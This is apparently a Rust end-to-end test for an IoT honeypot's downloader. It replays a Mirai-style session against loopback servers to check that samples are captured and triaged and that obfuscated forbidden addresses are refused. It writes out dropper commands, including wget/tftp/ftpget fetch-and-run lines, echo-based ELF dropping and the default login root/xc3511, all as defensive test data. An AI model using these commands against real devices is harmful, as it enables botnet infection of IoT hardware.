//! The downloader end to end: the real binary, a Mirai-style session whose
//! wget, tftp and ftpget point at real servers on loopback (Python's
//! http.server, tftpd-hpa, pyftpdlib), a nested .sh fetching three
//! architectures, an echo-dropped ELF, and forbidden addresses refused
//! without a packet.

mod common;
use common::*;
use iotpot_core::Arch;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn elf(arch: Arch, tag: &str) -> Vec<u8> {
    let mut b = arch.elf_header();
    b.extend_from_slice(format!("\0\0{tag} cnc 203.0.113.77:23\0").as_bytes());
    b.resize(3000, 0x90);
    b
}

fn sha(b: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(b))
}

#[test]
fn downloads_become_triaged_samples() {
    require("/usr/bin/python3");
    require("/usr/sbin/in.tftpd");
    let www = TempDir::new("www");
    let (hp_port, tftp_port, ftp_port) = (free_port(), free_port(), free_port());
    let arm7 = elf(Arch::Armhf, "arm7");
    let mips = elf(Arch::Mips, "mips");
    // Mirai's strings: the YARA rules must tag it.
    let x86 = elf(
        Arch::I686,
        "x86\0/dev/watchdog\0TSource Engine Query\0/proc/net/tcp",
    );
    let sh4 = elf(Arch::Sh4, "sh4");
    let ppc = elf(Arch::Ppc, "ppc");
    let m68k = elf(Arch::M68k, "m68k");
    std::fs::create_dir_all(www.0.join("bins")).unwrap();
    for (name, b) in [
        ("mirai.arm7", &arm7),
        ("mirai.mips", &mips),
        ("mirai.x86", &x86),
        ("tftp.sh4", &sh4),
        ("ftp.ppc", &ppc),
        ("follow.m68k", &m68k),
    ] {
        std::fs::write(www.0.join("bins").join(name), b).unwrap();
    }
    let script = format!(
        "#!/bin/sh\ncd /tmp || cd /var/run\nfor a in arm7 mips x86; do wget http://127.0.0.1:{hp_port}/bins/mirai.$a -O m.$a; chmod 777 m.$a; ./m.$a scan; done\n"
    );
    std::fs::write(www.0.join("bins.sh"), &script).unwrap();
    // A script the attacker fetches but never runs: followed anyway.
    let follow = format!("#!/bin/sh\nwget http://127.0.0.1:{hp_port}/bins/follow.m68k -O /tmp/f\n");
    std::fs::write(www.0.join("follow.sh"), &follow).unwrap();
    Command::new("chmod")
        .args(["-R", "a+rX"])
        .arg(&www.0)
        .status()
        .unwrap();
    let _http = http_server(&www.0, hp_port);
    let _tftp = quiet(
        Command::new("/usr/sbin/in.tftpd")
            .args(["-L", "-a", &format!("127.0.0.1:{tftp_port}"), "-s"])
            .arg(www.0.join("bins")),
    );
    let _ftp = quiet(
        Command::new("/usr/bin/python3")
            .args([
                "-m",
                "pyftpdlib",
                "-i",
                "127.0.0.1",
                "-p",
                &ftp_port.to_string(),
                "-d",
            ])
            .arg(www.0.join("bins")),
    );
    wait_port(ftp_port);
    // 127.0.0.2 stays forbidden: a listener there must see no connection.
    let forbidden = TcpListener::bind("127.0.0.2:0").unwrap();
    forbidden.set_nonblocking(true).unwrap();
    let fport = forbidden.local_addr().unwrap().port();

    let mut hp = Honeypot::start(
        "downloads",
        "dvr-xiongmai",
        "[downloader]\nallow = [\"127.0.0.1/32\"]\n",
    );
    let mut bot = Bot::connect(hp.addr);
    bot.login("root", "xc3511");
    bot.cmd("cd /tmp");
    let out = bot.cmd(&format!(
        "wget http://127.0.0.1:{hp_port}/bins.sh; chmod 777 bins.sh; sh bins.sh"
    ));
    assert!(out.contains("bins.sh              100% |"), "{out}");
    assert!(out.contains("m.x86                100% |"), "{out}");
    // The session sees the real bytes.
    let out = bot.cmd("cat m.mips | wc -c");
    assert!(out.lines().any(|l| l.trim() == "3000"), "{out}");
    let out = bot.cmd(&format!(
        "/bin/busybox tftp -g -l t.sh4 -r tftp.sh4 127.0.0.1 {tftp_port}; ls -l t.sh4"
    ));
    assert!(out.contains(" 3000 "), "{out}");
    let out = bot.cmd(&format!(
        "/bin/busybox ftpget -P {ftp_port} 127.0.0.1 f.ppc ftp.ppc; ls -l f.ppc"
    ));
    assert!(out.contains(" 3000 "), "{out}");
    let out = bot.cmd(&format!("wget http://127.0.0.1:{hp_port}/nothing-here"));
    assert!(
        out.contains("wget: server returned error: HTTP/1.0 404")
            || out.contains("wget: server returned error: HTTP/1.1 404"),
        "{out}"
    );
    bot.cmd(&format!("wget http://127.0.0.1:{hp_port}/follow.sh"));
    // Echo-dropped ELF (ARM soft-float).
    let dropped = elf(Arch::Armel, "echo-dropped");
    bot.cmd(">upnp");
    for chunk in dropped.chunks(200) {
        let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        bot.cmd(&format!("echo -ne '{hex}' >> upnp"));
    }
    bot.cmd("chmod 777 upnp; ./upnp");
    // Forbidden, in several spellings.
    for host in [
        "127.0.0.2",
        "0x7f.0.0.2",
        "2130706434",
        "0177.0.0.02",
        "[::ffff:127.0.0.2]",
        "[::1]",
    ] {
        let out = bot.cmd(&format!("wget http://{host}:{fport}/x"));
        assert!(
            out.contains("can't connect to remote host"),
            "{host}: {out}"
        );
    }
    drop(bot);
    hp.stop();
    assert!(
        forbidden.accept().is_err(),
        "a forbidden address was contacted"
    );

    // The store: every sample, byte-exact, read-only, triaged.
    let samples = hp.data().join("samples");
    for b in [&arm7, &mips, &x86, &sh4, &ppc, &dropped] {
        let p = samples.join(sha(b));
        assert_eq!(std::fs::read(&p).unwrap(), *b);
        assert_eq!(
            std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
            0o400
        );
    }
    let listing = hp.cli(&["samples", "--json"]);
    let rows: Vec<serde_json::Value> = listing
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let arch_of = |b: &[u8]| {
        rows.iter()
            .find(|r| r["sha256"] == sha(b).as_str())
            .map(|r| r["arch"].clone())
    };
    assert_eq!(arch_of(&arm7), Some("arm7".into()));
    assert_eq!(arch_of(&mips), Some("mips".into()));
    assert_eq!(arch_of(&x86), Some("x86".into()));
    assert_eq!(arch_of(&sh4), Some("sh4".into()));
    assert_eq!(arch_of(&ppc), Some("ppc".into()));
    assert_eq!(arch_of(&dropped), Some("arm".into()));
    let script_row = rows
        .iter()
        .find(|r| r["sha256"] == sha(script.as_bytes()).as_str())
        .expect("the script is a sample");
    assert_eq!(script_row["kind"], "script");
    assert_eq!(
        script_row["tags"],
        serde_json::json!(["multiarch_dropper_script"])
    );
    let x86_row = rows
        .iter()
        .find(|r| r["sha256"] == sha(&x86).as_str())
        .unwrap();
    assert_eq!(
        x86_row["sources"][0],
        format!("http://127.0.0.1:{hp_port}/bins/mirai.x86")
    );
    assert_eq!(x86_row["triage"]["ips"][0], "203.0.113.77:23");
    assert_eq!(x86_row["tags"], serde_json::json!(["mirai"]));
    let human = hp.cli(&["samples"]);
    assert!(human.contains("arm7") && human.contains("sh4"), "{human}");
    assert!(
        human
            .lines()
            .any(|l| l.contains(&sha(&x86)) && l.contains("mirai")),
        "families are shown: {human}"
    );
    let show = hp.cli(&["samples", "show", &sha(&x86)[..12]]);
    assert!(show.contains("x86") && show.contains("mirai.x86"), "{show}");
    // Events.
    let db = hp.db();
    let count = |sql: &str| -> i64 { db.query_row(sql, [], |r| r.get(0)).unwrap() };
    // Every URL was fetched (some twice: the downloader follows bins.sh on
    // its own while the attacker runs it).
    let fetched: std::collections::BTreeSet<String> = column(
        &db,
        "SELECT json_extract(data, '$.url') FROM events WHERE eventid = 'iotpot.download.success'",
    )
    .into_iter()
    .collect();
    let failed = column(
        &db,
        "SELECT data FROM events WHERE eventid = 'iotpot.download.failed'",
    );
    for u in [
        "bins.sh",
        "bins/mirai.arm7",
        "bins/mirai.mips",
        "bins/mirai.x86",
        "follow.sh",
        "bins/follow.m68k",
    ] {
        assert!(
            fetched.contains(&format!("http://127.0.0.1:{hp_port}/{u}")),
            "{u} not fetched: {fetched:?} {failed:?}"
        );
    }
    assert!(
        fetched.contains(&format!("tftp://127.0.0.1:{tftp_port}/tftp.sh4")),
        "{fetched:?}"
    );
    assert!(
        fetched.iter().any(|u| u.starts_with("ftp://")),
        "{fetched:?}"
    );
    assert!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.download.failed' AND data LIKE '%refused address%'") >= 6);
    // New content is triaged once: 5 fetched ELFs, 2 scripts, the followed
    // m68k ELF, the echo-dropped ELF.
    assert_eq!(
        count("SELECT count(*) FROM events WHERE eventid = 'iotpot.sample.triaged'"),
        9
    );
    let parent: String = db
        .query_row(
            "SELECT json_extract(data, '$.parent') FROM events WHERE eventid = 'iotpot.download.success' AND data LIKE '%follow.m68k%'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(
        parent,
        sha(follow.as_bytes()),
        "the followed file records its script"
    );
    assert_eq!(arch_of(&m68k), Some("m68k".into()));
}
